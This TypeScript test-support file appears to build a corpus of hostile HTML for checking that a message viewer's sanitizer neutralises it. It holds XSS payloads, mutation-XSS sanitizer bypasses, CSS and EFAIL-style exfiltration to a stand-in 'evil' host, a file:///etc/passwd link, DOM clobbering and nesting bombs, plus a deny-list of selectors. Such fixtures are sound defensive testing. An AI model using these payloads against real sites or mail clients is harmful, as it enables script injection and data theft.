import { HOSTILE } from '../unit/window/support/hostile-html.ts';

/** What a script in a message would do first. */
const ACT = "window.ran=1;try{top.ran=1}catch{}document.title='ran';alert(1)";

/** HTML that acts, fetches from `evil`, or breaks out of what it stands in, where a program lets it; one piece a message. */
export function actingHtml(evil: string): readonly string[] {
  return [...HOSTILE.map((piece) => piece.replaceAll('https://evil.example', evil)), ...more(evil)];
}

function more(evil: string): readonly string[] {
  const away = `url(${evil}/css)`;
  return [
    `<script src="${evil}/a.js"></script><script>${ACT}</script>`,
    `<img src="x" onerror="${ACT}"><body onload="${ACT}"><p onmouseover="${ACT}">over</p>`,
    `<a href="JaVaScRiPt:${ACT}">a</a><a href=" &#14; javascript:${ACT}">b</a><a href="data:text/html,<script>${ACT}</script>">c</a>`,
    `<a href="vbscript:x">d</a><a href="file:///etc/passwd">e</a><a href="blob:x">f</a><a href="app://bundle/index.html">g</a>`,
    `<meta http-equiv="refresh" content="0;url=${evil}/refresh"><base href="${evil}/"><a href="relative">r</a><img src="relative.png">`,
    `<link rel="prefetch" href="${evil}/p"><link rel="preconnect" href="${evil}"><link rel="dns-prefetch" href="//evil.example">`,
    `<form action="${evil}/f" method="post"><input type="submit" autofocus onfocus="${ACT}"></form>`,
    `<iframe srcdoc="<script>${ACT}</script>"></iframe><object data="data:text/html,<script>${ACT}</script>"></object><embed src="${evil}/e">`,
    `<svg><script>${ACT}</script><image href="${evil}/svg"/><use href="${evil}/u#x"/><foreignObject><img src=x onerror="${ACT}"></foreignObject></svg>`,
    `<math><mi xlink:href="javascript:${ACT}">x</mi><annotation-xml encoding="text/html"><img src=x onerror="${ACT}"></annotation-xml></math>`,
    `<style>@import "${evil}/i.css";@import ${away};@font-face{font-family:x;src:${away}}p{font-family:x;background:${away};position:fixed;top:0}</style>`,
    `<p style="position:fixed;inset:0;background:${away};cursor:${away};content:${away};behavior:${away};-moz-binding:${away}">cover</p>`,
    `<p style="background:u\\72l(${evil}/esc);background-image:image-set('${evil}/set' 1x);position:fi\\78 ed">escapes</p>`,
    `<p style="width:e/**/xpression(alert(1));--x:${away};background:var(--x)">variables</p>`,
    `<style>a{}</sty<b></style></b><img src=x onerror="${ACT}"></style>after`,
    `<style><!--</style><img src=x onerror="${ACT}">--></style>`,
    `<img srcset="${evil}/1x 1x, ${evil}/2x 2x" alt="set"><picture><source srcset="${evil}/p"><img alt="p"></picture>`,
    `<a href="https://ok.example/" ping="${evil}/ping" target="_top">ping</a><table background="${evil}/bg"><td background="${evil}/td">cell</td></table>`,
    `<video src="${evil}/v" autoplay></video><audio src="${evil}/a" autoplay></audio><track src="${evil}/t">`,
    `<noscript><p title="</noscript><img src=x onerror=${ACT}>"></noscript>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ACT}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${ACT}">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${ACT}>">`,
    `<template><style></template><img src=x onerror="${ACT}"></style></template>`,
    `<select><style></select><img src=x onerror="${ACT}"></style></select><xmp></xmp><img src=x onerror="${ACT}">`,
    `<p id="document"></p><form name="body"></form><img name="createElement"><a id="retinue"></a><p id="ran">clobbers</p>`,
    `<dialog open>modal</dialog><p popover id="pop">pop</p><marquee onstart="${ACT}">m</marquee><plaintext>${ACT}`,
    `<p>text <!-- an open comment <img src=x onerror="${ACT}">`,
    ...together(fetching(evil)),
    ...unclosed(evil),
    ...together(mutating()),
    `${'<div>'.repeat(10_000)}deep${'</div>'.repeat(10_000)}`,
    `${'<b><i>'.repeat(3000)}formatted`,
    `<p style="width:${'calc('.repeat(20_000)}1px">calc</p><style>${'@media screen{'.repeat(20_000)}</style>`,
    `${'<meta '.repeat(60_000)}<p>metas</p>`,
    `<style>${':root{'.repeat(60_000)}</style><p>roots</p>`,
    `<style>${':root{/*}*/'.repeat(60_000)}</style><p>roots behind comments</p>`,
    `<p style="color:${'color-mix(in srgb,'.repeat(5000)}red">mix</p><p style="--x:${'var(--y,'.repeat(60_000)}">var</p>`,
    `<picture><source media="${'(not '.repeat(60_000)}" srcset="x"></picture><p>media</p>`,
    `<table>${'<tr><td>'.repeat(5000)}cells`,
  ];
}

/** Several to a message, because opening one takes its time; what one leaves open is closed before the next. */
function together(pieces: readonly string[]): readonly string[] {
  const CLOSE = '</style></title></textarea></xmp></select></table></svg></math></form><p>next</p>';
  const groups = Array.from({ length: Math.ceil(pieces.length / 5) }, (_, n) =>
    pieces.slice(5 * n, 5 * n + 5),
  );
  return groups.map((group) => group.join(CLOSE));
}

/** Every other attribute and value that has ever fetched something. */
function fetching(evil: string): readonly string[] {
  const away = `url(${evil}/css2)`;
  return [
    `<img lowsrc="${evil}/low" dynsrc="${evil}/dyn" longdesc="${evil}/long" attributionsrc="${evil}/attr" usemap="#m"><map name="m"><area href="https://ok.example/" ping="${evil}/areaping"></map>`,
    `<body background="${evil}/body"><tr background="${evil}/tr"><thead background="${evil}/thead"><input type="image" src="${evil}/input"><bgsound src="${evil}/bgsound"><layer src="${evil}/layer"></layer>`,
    `<video poster="${evil}/poster"></video><object codebase="${evil}/" classid="${evil}/c" archive="${evil}/z"><param name="movie" value="${evil}/m"></object><applet code="${evil}/x.class" codebase="${evil}/"></applet>`,
    `<link rel="stylesheet" href="${evil}/s.css"><link rel="icon" href="${evil}/i"><link rel="manifest" href="${evil}/m"><link rel="preload" as="image" href="${evil}/pre" imagesrcset="${evil}/set"><link rel="modulepreload" href="${evil}/mod">`,
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}/spec"]}]}</script><meta http-equiv="Link" content="<${evil}/l>; rel=preload"><meta http-equiv="set-cookie" content="a=b"><html manifest="${evil}/app">`,
    `<blockquote cite="${evil}/cite"><q cite="${evil}/q">q</q></blockquote><ins cite="${evil}/ins">i</ins><head profile="${evil}/profile"><fencedframe src="${evil}/ff"></fencedframe><portal src="${evil}/portal"></portal>`,
    `<?xml-stylesheet href="${evil}/x.css"?><xml src="${evil}/xml" id="x"></xml><iframe srcdoc="<img src='${evil}/srcdoc'>" loading="eager"></iframe><frameset><frame src="${evil}/frame"></frameset>`,
    `<div style="list-style-image:${away};border-image:${away} 1;-webkit-mask:${away};mask-image:${away};clip-path:${away};filter:${away};shape-outside:${away};offset-path:${away}">css</div>`,
    `<div style="background:-webkit-image-set(${away} 1x);background-image:cross-fade(${away},${away},50%);background-image:src('${evil}/src');content:image('${evil}/image')">css</div>`,
    `<style>@import'${evil}/q.css';@import url("${evil}/u.css") screen;@namespace url(${evil}/ns);@charset "utf-7";@font-feature-values x{}@counter-style c{system:cyclic;symbols:${away}}@property --p{syntax:"<url>";inherits:true;initial-value:${away}}</style><p>at rules</p>`,
    `<style>p{background:url(\n${evil}/nl)}p{background:UrL(${evil}/case)}p{background:url(/**/${evil}/comment)}@\\69mport '${evil}/escaped';p::before{content:${away}}p:hover{cursor:${away},auto}</style><p>spellings</p>`,
    `<template shadowrootmode="open"><img src="${evil}/shadow"><style>:host{background:${away}}</style></template><p>shadow</p>`,
    `<svg><a xlink:href="javascript:${ACT}"><animate attributeName="href" values="javascript:${ACT}"/><text>t</text></a><feImage href="${evil}/fe"/><set attributeName="onmouseover" to="${ACT}"/></svg>`,
  ];
}

/** EFAIL: what is not closed before the next part must not take that part along. */
function unclosed(evil: string): readonly string[] {
  return [
    `<img src="${evil}/efail?<p>secret`,
    `<a href="${evil}/efail?<p>secret</p>`,
    `<style>p{background:url('${evil}/efail?<p>secret</p>`,
    `<form action="${evil}/f"><textarea>secret<input type=submit>`,
  ];
}

/** HTML that is one thing when it is cleaned and another when it is read again. */
function mutating(): readonly string[] {
  return [
    `<svg></p><style><g title="</style><img src=x onerror=${ACT}>">`,
    `<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=${ACT} src>">`,
    `<form id="a"><div></form><form id="b"><math><mtext></form><form><mglyph><style><img src onerror=${ACT}></style>`,
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${ACT}></style></annotation-xml></math>`,
    `<svg><foreignObject><table><caption><svg><desc><style></desc><img src=x onerror=${ACT}></style></svg></caption></table></foreignObject></svg>`,
    `<svg><![CDATA[><img src=x onerror=${ACT}>]]></svg><![CDATA[<img src=x onerror=${ACT}>]]>`,
    `<!--><img src=x onerror=${ACT}>--><!--!><img src=x onerror=${ACT}><!-- --!><img src=x onerror=${ACT}> -->`,
    `<noembed><img title="</noembed><img src=x onerror=${ACT}>"></noembed><noframes><p id="</noframes><img src=x onerror=${ACT}>"></noframes>`,
    `<listing>&lt;img src=x onerror=${ACT}&gt;</listing><xmp><p title="</xmp><img src=x onerror=${ACT}>"></xmp>`,
    `<option><style></option></select><img src=x onerror=${ACT}></style>`,
    `<table><td><svg><title><table><style></title><img src=x onerror=${ACT}></style>`,
    `<p title="\u0060onerror=${ACT}"><img/src=x/onerror=${ACT}><img\u000csrc=x\u000conerror=${ACT}><im\u0000g src=x onerror=${ACT}>`,
    `<a href="java&Tab;script:${ACT}">a</a><a href="java&NewLine;script&colon;${ACT}">b</a><a href="\u0001javascript:${ACT}">c</a><a href="&#106&#97vascript:${ACT}">d</a><a href="feed:javascript:${ACT}">e</a>`,
    `<title><style></title><img src=x onerror=${ACT}></style><textarea><style></textarea><img src=x onerror=${ACT}></style>`,
    `<b is="x-a" onbeforetoggle="${ACT}" onscrollend="${ACT}" oncontentvisibilityautostatechange="${ACT}" style="content-visibility:auto">b</b>`,
    `<details open ontoggle="${ACT}"><summary onfocusin="${ACT}" tabindex=1 autofocus>s</summary></details><p onanimationstart="${ACT}" style="animation:x 1s">a</p>`,
  ];
}

/** What may not be in a shown message: selectors of elements and attributes. */
export const ACTING =
  'script,svg,math,iframe,object,embed,form,input,button,base,link,video,audio,track,template,dialog,marquee,' +
  '[srcset],[ping],[background],[onload],[onerror],[onclick],[onmouseover],[popover],[autofocus],' +
  'a[href^="javascript:" i],a[href^="data:" i],a[href^="file:" i],a[href^="app:" i],meta[http-equiv="refresh" i]';
